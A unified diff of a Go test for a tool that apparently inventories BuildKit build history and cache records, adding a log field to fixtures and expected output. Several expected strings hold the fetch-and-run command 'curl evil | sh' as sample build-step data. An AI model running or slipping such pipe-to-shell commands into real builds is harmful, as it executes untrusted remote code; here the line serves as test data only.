@@ -28,7 +28,7 @@ func tree(tb testing.TB, value string) fstest.MapFS {
 	hex := strings.Repeat("a", 64)
 	return fstest.MapFS{
 		"b/history.db": db(func(tx *bolt.Tx) error {
-			return treetest.Put(tx, "_records", map[string]string{"ref": "\x0a\x03ref\x12\x0ddockerfile.v0"})
+			return treetest.Put(tx, "_records", map[string]string{"ref": "\x0a\x03ref\x12\x0ddockerfile.v0\x42\x05\x12\x03sum"})
 		}),
 		"b/runc-overlayfs/metadata_v2.db": cache,
 		"b/runc-overlayfs/containerdmeta.db": db(func(tx *bolt.Tx) error {
@@ -75,14 +75,14 @@ func TestStore(t *testing.T) {
 	builds, said := all(s.Builds())
 	var got []string
 	for _, b := range builds {
-		got = append(got, strings.Join([]string{string(b.Runtime), b.StorePath, string(b.Kind), b.ID, b.Type, b.Name, b.Snapshot, b.Options["env:A"], b.Options["cwd"], b.File}, " "))
+		got = append(got, strings.Join([]string{string(b.Runtime), b.StorePath, string(b.Kind), b.ID, b.Type, b.Name, b.Snapshot, b.Options["env:A"], b.Options["cwd"], b.Log, b.File}, " "))
 	}
 	want := []string{
-		"buildkit /b build ref dockerfile.v0     /b/history.db",
-		"buildkit /b cache rec regular [2/2] RUN curl evil | sh k1   /b/containerd-overlayfs/metadata_v2.db",
-		"buildkit /b cache rec regular [2/2] RUN curl evil | sh k1   /b/runc-overlayfs/metadata_v2.db",
-		"buildkit /b step s1 exec /bin/sh -c curl evil | sh  b /w /b/runc-overlayfs/executor/s1/config.json",
-		"buildkit /b step s2 exec     /b/runc-overlayfs/executor/s2/config.json",
+		"buildkit /b build ref dockerfile.v0     sum /b/history.db",
+		"buildkit /b cache rec regular [2/2] RUN curl evil | sh k1    /b/containerd-overlayfs/metadata_v2.db",
+		"buildkit /b cache rec regular [2/2] RUN curl evil | sh k1    /b/runc-overlayfs/metadata_v2.db",
+		"buildkit /b step s1 exec /bin/sh -c curl evil | sh  b /w  /b/runc-overlayfs/executor/s1/config.json",
+		"buildkit /b step s2 exec      /b/runc-overlayfs/executor/s2/config.json",
 	}
 	if !slices.Equal(got, want) {
 		t.Errorf("got\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
